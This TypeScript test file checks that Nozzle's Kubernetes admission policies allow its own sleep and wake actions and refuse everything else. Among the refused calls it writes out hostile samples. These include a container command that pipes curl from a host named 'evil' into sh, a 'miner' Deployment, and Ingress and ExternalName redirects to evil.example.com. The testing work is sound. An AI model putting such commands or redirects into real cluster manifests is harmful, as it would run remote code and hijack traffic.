/**
 * k8s/admission-policy.yaml against the real apiserver: with real
 * TokenRequest tokens of the worker and the activator (bound to the
 * ClusterRoles of k8s/ as shipped), Nozzle's own sleep and wake (the lib
 * functions the worker and the activator run) pass the policies, and what
 * RBAC's `patch` would also allow but Nozzle never does (a new image, a
 * label, another host, another Service...) is refused by them. Other users,
 * even with the same RBAC, are not affected.
 *
 * The policies stay in place after this file: the other tests (their worker
 * and activator run under the same ServiceAccounts) then run under them too.
 */
import test from 'ava';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  RbacAuthorizationV1Api,
  type KubernetesObject,
  type V1EndpointSlice,
  type V1PolicyRule,
} from '@kubernetes/client-node';
import type { Kube } from '../../lib/kube/client.js';
import { describeError, statusOf } from '../../lib/errors.js';
import { jsonPatch, mergePatch } from '../../lib/kube/patch.js';
import { sleepMessage } from '../../lib/messages.js';
import { annotations, labels } from '../../lib/names.js';
import { pauseForSleep, resumeAfterWake } from '../../lib/keda/paused-replicas.js';
import { assignPorts } from '../../lib/takeover/port-assignment.js';
import { ensureTakeover, removeTakeover } from '../../lib/takeover/takeover.js';
import { takeoverLabels } from '../../lib/takeover/takeover-slice.js';
import { optIn } from '../../lib/kube/opt-in.js';
import { sleepWorkload } from '../../lib/sleep/sleep.js';
import { restoreWorkloads, stampWokeAt } from '../../lib/wake/restore.js';
import { wakeNamespace } from '../../lib/wake/wake-namespace.js';
import { apply } from '../../scripts/testenv/servers/kube-request.js';
import { parseManifests } from '../../scripts/testenv/servers/yaml.js';
import { staticActivatorPods } from '../support/activator-pods.js';
import {
  adminKube,
  adminKubeConfig,
  kubeWithToken,
  serviceAccountToken,
  uniqueName,
} from '../support/env.js';
import { createScaledObject, installScaledObjectCrd, readScaledObject } from '../support/keda.js';
import { eventually } from '../support/eventually.js';
import { repoRoot } from '../support/manifests.js';
import { createNamespace, createShop, snapshot } from '../support/shop.js';
import { createTakeoverShop, takeoverSlicesByName } from '../support/takeover-shop.js';

const kube = adminKube();
const rbac = adminKubeConfig().makeApiClient(RbacAuthorizationV1Api);
const fieldManager = 'nozzle-test-security';
const OPT_IN = optIn('nozzle=true', 'nozzle-system');
const manifest = (file: string): KubernetesObject[] =>
  parseManifests(readFileSync(join(repoRoot, 'k8s', file), 'utf8'));

const tokens: { worker?: Kube; activator?: Kube } = {};
const asWorker = (): Kube => tokens.worker ?? assertNever('worker');
const asActivator = (): Kube => tokens.activator ?? assertNever('activator');
function assertNever(what: string): never {
  throw new Error(`no ${what} token: test.before failed`);
}

async function applyAll(objects: readonly KubernetesObject[]): Promise<void> {
  for (const object of objects) {
    const res = await apply(adminKubeConfig(), object, { dryRun: false, fieldManager });
    if (res.status >= 300) {
      throw new Error(`apply ${object.kind}/${object.metadata?.name}: ${res.status} ${res.body}`);
    }
  }
}

/** The call is refused by the named policy (403, not by RBAC: the message names the policy). */
async function deniedBy(policy: string, call: () => Promise<unknown>): Promise<string | undefined> {
  try {
    await call();
    return undefined;
  } catch (err) {
    const text = describeError(err);
    if (statusOf(err) === 403 && text.includes(`ValidatingAdmissionPolicy '${policy}'`)) return text;
    throw err;
  }
}

/**
 * Grants both components more than k8s/ does, in `namespace` only (a Role and
 * a RoleBinding): what RBAC would then let through shows the policy at work.
 */
async function grantMore(namespace: string, rules: V1PolicyRule[]): Promise<void> {
  await rbac.createNamespacedRole({ namespace, body: { metadata: { name: 'more' }, rules } });
  await rbac.createNamespacedRoleBinding({
    namespace,
    body: {
      metadata: { name: 'more' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'more' },
      subjects: ['nozzle-worker', 'nozzle-activator'].map((name) => ({
        kind: 'ServiceAccount',
        name,
        namespace: 'nozzle-system',
      })),
    },
  });
}

test.before(async () => {
  await kube.core.createNamespace({ body: { metadata: { name: 'nozzle-system' } } }).catch((err: unknown) => {
    if (statusOf(err) !== 409) throw err;
  });
  const policy = manifest('admission-policy.yaml');
  if (!policy.some((o) => o.kind === 'ValidatingAdmissionPolicyBinding')) throw new Error('no binding');
  await applyAll([...manifest('rbac-worker.yaml'), ...manifest('rbac-activator.yaml'), ...policy]);
  tokens.worker = kubeWithToken(await serviceAccountToken(kube, 'nozzle-system', 'nozzle-worker'), 'worker');
  tokens.activator = kubeWithToken(
    await serviceAccountToken(kube, 'nozzle-system', 'nozzle-activator'),
    'activator',
  );

  // A policy is enforced a moment after it is created: probe each with a
  // forbidden write, as a dry run so that nothing changes before it is.
  const { namespace } = await createNamespace(kube, 'vap-probe');
  await kube.apps.createNamespacedDeployment({
    namespace,
    body: {
      metadata: { name: 'web' },
      spec: {
        replicas: 1,
        selector: { matchLabels: { app: 'web' } },
        template: {
          metadata: { labels: { app: 'web' } },
          spec: { containers: [{ name: 'c', image: 'i:1' }] },
        },
      },
    },
  });
  await kube.networking.createNamespacedIngress({
    namespace,
    body: {
      metadata: { name: 'web' },
      spec: { rules: [{ host: 'a.example.com', http: { paths: [webPath('/')] } }] },
    },
  });
  const dryRun = 'All';
  const label = { metadata: { labels: { probe: 'x' } } };
  await eventually(
    'the policies are enforced',
    async () =>
      (await deniedBy('nozzle-workloads', () =>
        asWorker().apps.patchNamespacedDeployment(
          { namespace, name: 'web', body: label, dryRun },
          mergePatch,
        ),
      )) !== undefined &&
      (await deniedBy('nozzle-ingresses', () =>
        asActivator().networking.patchNamespacedIngress(
          { namespace, name: 'web', body: label, dryRun },
          mergePatch,
        ),
      )) !== undefined &&
      (await deniedBy('nozzle-namespaces', () =>
        asActivator().core.patchNamespace({ name: namespace, body: label, dryRun }, mergePatch),
      )) !== undefined &&
      (await deniedBy('nozzle-endpointslices', () =>
        asWorker().discovery.createNamespacedEndpointSlice({
          namespace,
          dryRun,
          body: controllerSlice('probe', 'probe-abc'),
        }),
      )) !== undefined,
    { timeout: 60_000 },
  );
});

/** An EndpointSlice as the EndpointSlice controller makes them: not Nozzle's. */
function controllerSlice(service: string, name: string): V1EndpointSlice {
  return {
    metadata: {
      name,
      labels: {
        'kubernetes.io/service-name': service,
        'endpointslice.kubernetes.io/managed-by': 'endpointslice-controller.k8s.io',
      },
    },
    addressType: 'IPv4',
    ports: [{ name: 'http', port: 8080, protocol: 'TCP' }],
    endpoints: [{ addresses: ['10.244.0.7'], conditions: { ready: true } }],
  };
}

function webPath(path: string) {
  return {
    path,
    pathType: 'Prefix',
    backend: { service: { name: 'web', port: { number: 80 } } },
  };
}

test("Nozzle's own sleep and wake pass the policies, under the worker's and the activator's tokens", async (t) => {
  // Services that can be taken over; the Leases in nozzle-system (the worker's Role is there).
  const { namespace } = await createTakeoverShop(kube, 'vap-ok', { system: 'nozzle-system', activators: 0 });
  const before = await snapshot(kube, namespace);
  const sleepAll = async () => {
    for (const workload of [
      { kind: 'Deployment', name: 'web' },
      { kind: 'Deployment', name: 'api' },
      { kind: 'StatefulSet', name: 'db' },
    ] as const) {
      const outcome = await sleepWorkload(asWorker(), sleepMessage(namespace, workload), {
        activatorPods: staticActivatorPods('nozzle-system'),
        optIn: OPT_IN,
        onEventError: (err) => t.fail(describeError(err)),
      });
      t.is(outcome.outcome, 'slept', `${workload.name}: ${JSON.stringify(outcome)}`);
    }
    const asleep = await snapshot(kube, namespace);
    t.is(asleep.deployments.web?.spec?.replicas, 0);
    t.is(asleep.deployments.web?.metadata?.annotations?.[annotations.replicas], '3');
    t.is(asleep.statefulSets.db?.metadata?.annotations?.[annotations.replicas], '1');
    t.deepEqual(Object.keys(await takeoverSlicesByName(kube, namespace)).sort(), [
      'api-nozzle-ipv4',
      'web-alias-nozzle-ipv4',
      'web-nozzle-ipv4',
    ]);
    t.deepEqual(asleep.services, before.services, 'no Service written');
    t.deepEqual(asleep.ingresses, before.ingresses, 'no Ingress written');
  };
  const assertAwake = async () => {
    const awake = await snapshot(kube, namespace);
    for (const name of ['web', 'api'])
      t.deepEqual(awake.deployments[name]?.spec, before.deployments[name]?.spec, name);
    t.deepEqual(awake.statefulSets.db?.spec, before.statefulSets.db?.spec);
    for (const name of ['shop', 'db-admin']) {
      t.deepEqual(awake.ingresses[name]?.spec, before.ingresses[name]?.spec, name);
      t.deepEqual(awake.ingresses[name]?.metadata?.labels, before.ingresses[name]?.metadata?.labels, name);
      t.deepEqual(
        awake.ingresses[name]?.metadata?.annotations,
        before.ingresses[name]?.metadata?.annotations,
        name,
      );
    }
  };

  // The worker puts every workload to sleep; the activator wakes the namespace.
  await sleepAll();
  await stampWokeAt(asActivator(), namespace);
  t.is((await restoreWorkloads(asActivator(), namespace)).length, 3);
  await assertAwake();

  // Again, woken by the worker's `wake` this time.
  await new Promise((resolve) => setTimeout(resolve, 5));
  await sleepAll();
  const woke = await wakeNamespace(asWorker(), namespace, OPT_IN);
  t.is(woke.workloads.length, 3);
  await assertAwake();
  const ns = await kube.core.readNamespace({ name: namespace });
  t.truthy(ns.metadata?.annotations?.[annotations.wokeAt]);
});

test('what RBAC allows but Nozzle never does is refused by the policies', async (t) => {
  const { namespace } = await createShop(kube, 'vap-deny');
  // A sleeping Deployment, as Nozzle left it.
  const sleeping = await sleepWorkload(
    asWorker(),
    sleepMessage(namespace, { kind: 'Deployment', name: 'web' }),
    { activatorPods: staticActivatorPods('nozzle-system'), optIn: OPT_IN },
  );
  t.is(sleeping.outcome, 'slept');
  // k8s/rbac-worker.yaml grants no Service or Ingress write at all: grant them here, so that
  // what the policies do about them shows.
  await grantMore(namespace, [
    { apiGroups: [''], resources: ['services'], verbs: ['get', 'patch', 'create'] },
    { apiGroups: ['networking.k8s.io'], resources: ['ingresses'], verbs: ['patch'] },
  ]);
  await eventually('the Role is in effect', () =>
    deniedBy('nozzle-services', () =>
      asWorker().core.patchNamespacedService(
        { namespace, name: 'web', body: { metadata: { labels: { x: 'y' } } }, dryRun: 'All' },
        mergePatch,
      ),
    ),
  );
  await kube.core.createNamespacedService({
    namespace,
    body: {
      metadata: { name: 'not-ours' },
      spec: { type: 'ExternalName', externalName: 'example.com' },
    },
  });
  const before = await snapshot(kube, namespace);
  const nsBefore = await kube.core.readNamespace({ name: namespace });

  const patchDeployment = (kube: Kube, name: string, body: object) =>
    kube.apps.patchNamespacedDeployment({ namespace, name, body }, mergePatch);
  const patchIngress = (kube: Kube, body: object, name = 'shop') =>
    kube.networking.patchNamespacedIngress({ namespace, name, body }, mergePatch);
  const jsonPatchIngress = (kube: Kube, body: object[]) =>
    kube.networking.patchNamespacedIngress({ namespace, name: 'shop', body }, jsonPatch);
  const container = (image: string) => ({
    spec: { template: { spec: { containers: [{ name: 'api', image }] } } },
  });

  const refused: [policy: string, what: string, call: () => Promise<unknown>][] = [
    // Deployments and StatefulSets
    [
      'nozzle-workloads',
      'worker changes a container image',
      () => patchDeployment(asWorker(), 'api', container('evil:1')),
    ],
    [
      'nozzle-workloads',
      'activator changes a container image',
      () => patchDeployment(asActivator(), 'api', container('evil:1')),
    ],
    [
      'nozzle-workloads',
      'worker changes an image in the same patch as a sleep',
      () =>
        patchDeployment(asWorker(), 'api', {
          metadata: { annotations: { [annotations.replicas]: '2' } },
          spec: { replicas: 0, template: { spec: { containers: [{ name: 'api', image: 'evil:1' }] } } },
        }),
    ],
    [
      'nozzle-workloads',
      'worker adds a command to a StatefulSet',
      () =>
        asWorker().apps.patchNamespacedStatefulSet(
          {
            namespace,
            name: 'db',
            body: [
              {
                op: 'add',
                path: '/spec/template/spec/containers/0/command',
                value: ['sh', '-c', 'curl evil | sh'],
              },
            ],
          },
          jsonPatch,
        ),
    ],
    [
      'nozzle-workloads',
      'worker adds a label',
      () => patchDeployment(asWorker(), 'api', { metadata: { labels: { x: 'y' } } }),
    ],
    [
      'nozzle-workloads',
      'worker adds another annotation',
      () => patchDeployment(asWorker(), 'api', { metadata: { annotations: { x: 'y' } } }),
    ],
    [
      'nozzle-workloads',
      'worker adds an owner reference',
      () =>
        patchDeployment(asWorker(), 'api', {
          metadata: {
            ownerReferences: [
              { apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: '6a7e8b52-0000-4000-8000-000000000000' },
            ],
          },
        }),
    ],
    [
      'nozzle-workloads',
      'worker pauses a rollout',
      () => patchDeployment(asWorker(), 'api', { spec: { paused: true } }),
    ],
    [
      'nozzle-workloads',
      'worker scales to 50',
      () => patchDeployment(asWorker(), 'api', { spec: { replicas: 50 } }),
    ],
    [
      'nozzle-workloads',
      'worker scales to 0 recording a wrong count',
      () =>
        patchDeployment(asWorker(), 'api', {
          metadata: { annotations: { [annotations.replicas]: '50' } },
          spec: { replicas: 0 },
        }),
    ],
    [
      'nozzle-workloads',
      'activator wakes to more than the recorded count',
      () =>
        patchDeployment(asActivator(), 'web', {
          metadata: { annotations: { [annotations.replicas]: null } },
          spec: { replicas: 50 },
        }),
    ],
    [
      'nozzle-workloads',
      'activator rewrites the recorded count',
      () =>
        patchDeployment(asActivator(), 'web', {
          metadata: { annotations: { [annotations.replicas]: '50' } },
        }),
    ],
    // Ingresses
    [
      'nozzle-ingresses',
      'activator changes an Ingress host',
      () =>
        jsonPatchIngress(asActivator(), [
          { op: 'replace', path: '/spec/rules/0/host', value: 'evil.example.com' },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker changes a path',
      () =>
        jsonPatchIngress(asWorker(), [
          { op: 'replace', path: '/spec/rules/0/http/paths/2/path', value: '/x' },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker changes a pathType',
      () =>
        jsonPatchIngress(asWorker(), [
          { op: 'replace', path: '/spec/rules/0/http/paths/2/pathType', value: 'Exact' },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker adds a path',
      () =>
        jsonPatchIngress(asWorker(), [
          {
            op: 'add',
            path: '/spec/rules/0/http/paths/-',
            value: {
              path: '/new',
              pathType: 'Prefix',
              backend: { service: { name: 'web', port: { number: 80 } } },
            },
          },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker adds a rule',
      () =>
        jsonPatchIngress(asWorker(), [
          {
            op: 'add',
            path: '/spec/rules/-',
            value: { host: 'new.example.com', http: { paths: [webPath('/')] } },
          },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker points a path at another Service',
      () =>
        jsonPatchIngress(asWorker(), [
          { op: 'replace', path: '/spec/rules/0/http/paths/2/backend/service/name', value: 'db' },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker changes the TLS secret',
      () =>
        patchIngress(asWorker(), { spec: { tls: [{ hosts: ['shop.example.com'], secretName: 'evil' }] } }),
    ],
    [
      'nozzle-ingresses',
      'worker changes ingressClassName',
      () => patchIngress(asWorker(), { spec: { ingressClassName: 'evil' } }),
    ],
    [
      'nozzle-ingresses',
      'worker adds a defaultBackend',
      () =>
        patchIngress(asWorker(), {
          spec: { defaultBackend: { service: { name: 'web', port: { number: 80 } } } },
        }),
    ],
    [
      'nozzle-ingresses',
      'activator adds an annotation (e.g. a controller snippet)',
      () =>
        patchIngress(asActivator(), {
          metadata: { annotations: { 'nginx.ingress.kubernetes.io/server-snippet': 'x' } },
        }),
    ],
    [
      'nozzle-ingresses',
      'activator removes a label',
      () => patchIngress(asActivator(), { metadata: { labels: { team: null } } }),
    ],
    [
      'nozzle-ingresses',
      'worker sets nozzle.io/managed to something else',
      () => patchIngress(asWorker(), { metadata: { labels: { [labels.managed]: 'false' } } }),
    ],
    // Namespaces
    [
      'nozzle-namespaces',
      'activator adds a Namespace label',
      () =>
        asActivator().core.patchNamespace(
          { name: namespace, body: { metadata: { labels: { x: 'y' } } } },
          mergePatch,
        ),
    ],
    [
      'nozzle-namespaces',
      'worker removes the opt-in label',
      () =>
        asWorker().core.patchNamespace(
          { name: namespace, body: { metadata: { labels: { nozzle: null } } } },
          mergePatch,
        ),
    ],
    [
      'nozzle-namespaces',
      'worker sets nozzle.io/idle-after',
      () =>
        asWorker().core.patchNamespace(
          { name: namespace, body: { metadata: { annotations: { [annotations.idleAfter]: '1s' } } } },
          mergePatch,
        ),
    ],
    // Services
    [
      'nozzle-services',
      'worker patches a Service',
      () =>
        asWorker().core.patchNamespacedService(
          { namespace, name: 'web', body: { spec: { selector: { app: 'db' } } } },
          mergePatch,
        ),
    ],
    [
      'nozzle-services',
      'worker re-points an ExternalName Service',
      () =>
        asWorker().core.patchNamespacedService(
          { namespace, name: 'not-ours', body: { spec: { externalName: 'evil.example.com' } } },
          mergePatch,
        ),
    ],
    [
      'nozzle-services',
      'worker creates a Service',
      () =>
        asWorker().core.createNamespacedService({
          namespace,
          body: {
            metadata: { name: 'evil', labels: { [labels.managed]: 'true' } },
            spec: { type: 'ExternalName', externalName: 'evil.example.com' },
          },
        }),
    ],
  ];
  for (const [policy, what, call] of refused) {
    const message = await deniedBy(policy, call).catch(
      (err: unknown) => `other error: ${describeError(err)}`,
    );
    t.truthy(message, `${what}: was allowed`);
    t.notRegex(message ?? '', /^other error/, what);
  }
  t.deepEqual(await snapshot(kube, namespace), before, 'nothing changed');
  t.deepEqual(
    (await kube.core.readNamespace({ name: namespace })).metadata?.labels,
    nsBefore.metadata?.labels,
  );
});

test('EndpointSlices: the worker writes its own takeover slices in opted-in namespaces, nothing else', async (t) => {
  const { namespace } = await createTakeoverShop(kube, 'vap-slices', {
    system: 'nozzle-system',
    activators: 0,
  });
  const service = await kube.core.readNamespacedService({ namespace, name: 'api' });
  const { ports } = await assignPorts(asWorker(), { systemNamespace: 'nozzle-system' }, service);
  const input = { namespace, service, ports, activatorPods: await staticActivatorPods('nozzle-system')() };
  // Allowed: create, update (ensured-at, endpoints), delete of Nozzle's own slice, as lib/takeover writes them.
  t.like(await ensureTakeover(asWorker(), { ...input, ensuredAt: new Date() }), {
    slices: [{ name: 'api-nozzle-ipv4', outcome: 'created' }],
  });
  t.like(await ensureTakeover(asWorker(), { ...input, ensuredAt: new Date(Date.now() + 1_000) }), {
    slices: [{ name: 'api-nozzle-ipv4', outcome: 'updated' }],
  });
  const ours = await kube.discovery.readNamespacedEndpointSlice({ namespace, name: 'api-nozzle-ipv4' });
  await kube.discovery.createNamespacedEndpointSlice({
    namespace,
    body: controllerSlice('api', 'api-abcde'),
  });

  const outside = (await kube.core.createNamespace({ body: { metadata: { name: uniqueName('vap-out') } } }))
    .metadata!.name!;
  const nozzleSlice = (name: string): V1EndpointSlice => ({
    ...controllerSlice('api', name),
    metadata: { name, labels: takeoverLabels('api') },
  });
  const dryRun = 'All';
  // The worker may update (not patch) EndpointSlices; the activator's rights are granted here.
  await grantMore(namespace, [
    { apiGroups: ['discovery.k8s.io'], resources: ['endpointslices'], verbs: ['update'] },
  ]);
  const replaceSlice = async (as: Kube, name: string, change: (s: V1EndpointSlice) => V1EndpointSlice) => {
    const body = change(await kube.discovery.readNamespacedEndpointSlice({ namespace, name }));
    return as.discovery.replaceNamespacedEndpointSlice({ namespace, name, body, dryRun });
  };
  const relabel = (s: V1EndpointSlice, managedBy: string): V1EndpointSlice => ({
    ...s,
    metadata: {
      ...s.metadata,
      labels: { ...s.metadata?.labels, [labels.endpointSliceManagedBy]: managedBy },
    },
  });
  await eventually(
    'the Role is in effect',
    async () =>
      (await deniedBy('nozzle-activator-endpointslices', () =>
        replaceSlice(asActivator(), 'api-abcde', (s) => ({ ...s, endpoints: [] })),
      )) !== undefined,
  );
  const refused: [policy: string, what: string, call: () => Promise<unknown>][] = [
    [
      'nozzle-endpointslices',
      "worker updates the controller's slice",
      () => replaceSlice(asWorker(), 'api-abcde', (s) => ({ ...s, endpoints: [] })),
    ],
    [
      'nozzle-endpointslices',
      "worker takes the controller's slice over by relabelling it",
      () => replaceSlice(asWorker(), 'api-abcde', (s) => relabel(s, 'nozzle.io')),
    ],
    [
      'nozzle-endpointslices',
      "worker deletes the controller's slice",
      () => asWorker().discovery.deleteNamespacedEndpointSlice({ namespace, name: 'api-abcde', dryRun }),
    ],
    [
      'nozzle-endpointslices',
      "worker creates a slice that is not labelled as Nozzle's",
      () =>
        asWorker().discovery.createNamespacedEndpointSlice({
          namespace,
          dryRun,
          body: controllerSlice('api', 'api-fake'),
        }),
    ],
    [
      'nozzle-endpointslices',
      'worker hands its own slice to the controller',
      () => replaceSlice(asWorker(), 'api-nozzle-ipv4', (s) => relabel(s, 'endpointslice-controller.k8s.io')),
    ],
    [
      'nozzle-activator-endpointslices',
      "activator updates the controller's slice",
      () => replaceSlice(asActivator(), 'api-abcde', (s) => ({ ...s, endpoints: [] })),
    ],
    [
      'nozzle-endpointslices-opted-in',
      'worker creates a takeover slice in a namespace that has not opted in',
      () =>
        asWorker().discovery.createNamespacedEndpointSlice({
          namespace: outside,
          dryRun,
          body: nozzleSlice('api-nozzle-ipv4'),
        }),
    ],
    [
      'nozzle-endpointslices-opted-in',
      'worker creates a takeover slice in kube-system',
      () =>
        asWorker().discovery.createNamespacedEndpointSlice({
          namespace: 'kube-system',
          dryRun,
          body: nozzleSlice('kube-dns-nozzle-ipv4'),
        }),
    ],
  ];
  for (const [policy, what, call] of refused) {
    const message = await deniedBy(policy, call).catch(
      (err: unknown) => `other error: ${describeError(err)}`,
    );
    t.truthy(message, `${what}: was allowed`);
    t.notRegex(message ?? '', /^other error/, what);
  }
  const after = await kube.discovery.readNamespacedEndpointSlice({ namespace, name: 'api-nozzle-ipv4' });
  t.is(after.metadata?.resourceVersion, ours.metadata?.resourceVersion, 'ours unchanged by the refusals');
  t.deepEqual(
    (await kube.discovery.readNamespacedEndpointSlice({ namespace, name: 'api-abcde' })).endpoints?.length,
    1,
    "the controller's slice unchanged",
  );
  t.deepEqual(await removeTakeover(asWorker(), namespace, 'api'), ['api-nozzle-ipv4'], 'delete allowed');
});

test('ScaledObjects: Nozzle pauses and resumes them, and may change nothing else of one', async (t) => {
  await installScaledObjectCrd();
  const { namespace } = await createShop(kube, 'vap-keda');
  await createScaledObject(kube, namespace, 'web', { name: 'web' });
  // The activator resumes on wake; its ClusterRole is another branch's business: granted here.
  await grantMore(namespace, [
    { apiGroups: ['keda.sh'], resources: ['scaledobjects'], verbs: ['get', 'list', 'patch'] },
  ]);
  const web = { kind: 'Deployment', name: 'web' } as const;
  await eventually(
    'the Role is in effect',
    async () => await resumeAfterWake(asActivator(), namespace, web).then(() => true),
  );
  t.deepEqual(await pauseForSleep(asWorker(), namespace, web), { changed: ['web'], userPaused: [] });
  t.like((await readScaledObject(kube, namespace, 'web')).metadata.annotations, {
    'autoscaling.keda.sh/paused-replicas': '0',
    'nozzle.io/paused-by-nozzle': 'true',
  });
  const before = await readScaledObject(kube, namespace, 'web');
  const patch = (as: Kube, body: object) =>
    as.custom.patchNamespacedCustomObject(
      { group: 'keda.sh', version: 'v1alpha1', plural: 'scaledobjects', namespace, name: 'web', body },
      mergePatch,
    );
  const refused: [what: string, call: () => Promise<unknown>][] = [
    ['worker changes the spec', () => patch(asWorker(), { spec: { maxReplicaCount: 50 } })],
    [
      'activator changes the target',
      () => patch(asActivator(), { spec: { scaleTargetRef: { name: 'api' } } }),
    ],
    ['worker adds another annotation', () => patch(asWorker(), { metadata: { annotations: { x: 'y' } } })],
    ['worker adds a label', () => patch(asWorker(), { metadata: { labels: { x: 'y' } } })],
    [
      'worker pauses at another count',
      () => patch(asWorker(), { metadata: { annotations: { 'autoscaling.keda.sh/paused-replicas': '3' } } }),
    ],
  ];
  for (const [what, call] of refused) {
    const message = await deniedBy('nozzle-scaledobjects', call).catch(
      (err: unknown) => `other error: ${describeError(err)}`,
    );
    t.truthy(message, `${what}: was allowed`);
    t.notRegex(message ?? '', /^other error/, what);
  }
  const after = await readScaledObject(kube, namespace, 'web');
  t.is(after.metadata.resourceVersion, before.metadata.resourceVersion, 'nothing changed');
  t.deepEqual(await resumeAfterWake(asActivator(), namespace, web), { changed: ['web'], userPaused: [] });
  t.deepEqual((await readScaledObject(kube, namespace, 'web')).metadata.annotations ?? {}, {});
});

test('no create or delete, even where a RoleBinding grants it', async (t) => {
  const { namespace } = await createShop(kube, 'vap-cd');
  await grantMore(namespace, [
    { apiGroups: ['apps'], resources: ['deployments', 'statefulsets'], verbs: ['create', 'delete'] },
    { apiGroups: ['networking.k8s.io'], resources: ['ingresses'], verbs: ['create', 'delete'] },
    { apiGroups: [''], resources: ['services'], verbs: ['delete'] },
  ]);
  const dryRun = 'All';
  const policy = 'nozzle-no-create-delete';
  // Until the RoleBinding is seen, RBAC refuses first (deniedBy throws: not the policy's 403).
  await eventually('the RoleBinding is in effect', () =>
    deniedBy(policy, () => asWorker().apps.deleteNamespacedDeployment({ namespace, name: 'web', dryRun })),
  );
  const refused: [string, () => Promise<unknown>][] = [
    [
      'activator deletes a Deployment',
      () => asActivator().apps.deleteNamespacedDeployment({ namespace, name: 'web', dryRun }),
    ],
    [
      'worker deletes a StatefulSet',
      () => asWorker().apps.deleteNamespacedStatefulSet({ namespace, name: 'db', dryRun }),
    ],
    [
      'worker creates a Deployment',
      () =>
        asWorker().apps.createNamespacedDeployment({
          namespace,
          dryRun,
          body: {
            metadata: { name: 'miner' },
            spec: {
              selector: { matchLabels: { app: 'miner' } },
              template: {
                metadata: { labels: { app: 'miner' } },
                spec: { containers: [{ name: 'c', image: 'miner:1' }] },
              },
            },
          },
        }),
    ],
    [
      'worker deletes an Ingress',
      () => asWorker().networking.deleteNamespacedIngress({ namespace, name: 'shop', dryRun }),
    ],
  ];
  const serviceDelete = await deniedBy('nozzle-service-deletes', () =>
    asWorker().core.deleteNamespacedService({ namespace, name: 'web', dryRun }),
  ).catch((err: unknown) => `other error: ${describeError(err)}`);
  t.truthy(serviceDelete, 'worker deletes a Service: was allowed');
  t.notRegex(serviceDelete ?? '', /^other error/, 'worker deletes a Service');
  for (const [what, call] of refused) {
    const message = await deniedBy(policy, call).catch(
      (err: unknown) => `other error: ${describeError(err)}`,
    );
    t.truthy(message, `${what}: was allowed`);
    t.notRegex(message ?? '', /^other error/, what);
  }
});

test('other users, even with the same ClusterRole, are not affected', async (t) => {
  const { namespace } = await createShop(kube, 'vap-other');
  await kube.core.createNamespacedServiceAccount({ namespace, body: { metadata: { name: 'other' } } });
  await rbac.createNamespacedRoleBinding({
    namespace,
    body: {
      metadata: { name: 'other-as-worker' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'nozzle-worker' },
      subjects: [{ kind: 'ServiceAccount', name: 'other', namespace }],
    },
  });
  const other = kubeWithToken(await serviceAccountToken(kube, namespace, 'other'), 'other');
  const image = { spec: { template: { spec: { containers: [{ name: 'web', image: 'example/web:2' }] } } } };
  await eventually('the RoleBinding is in effect', () =>
    other.apps
      .patchNamespacedDeployment({ namespace, name: 'web', body: image, dryRun: 'All' }, mergePatch)
      .then(() => true),
  );
  const patched = await other.apps.patchNamespacedDeployment(
    { namespace, name: 'web', body: image },
    mergePatch,
  );
  t.is(patched.spec?.template.spec?.containers[0]?.image, 'example/web:2');
  const admin = await kube.apps.patchNamespacedDeployment(
    { namespace, name: 'web', body: { metadata: { labels: { x: 'y' } } } },
    mergePatch,
  );
  t.is(admin.metadata?.labels?.x, 'y');
});
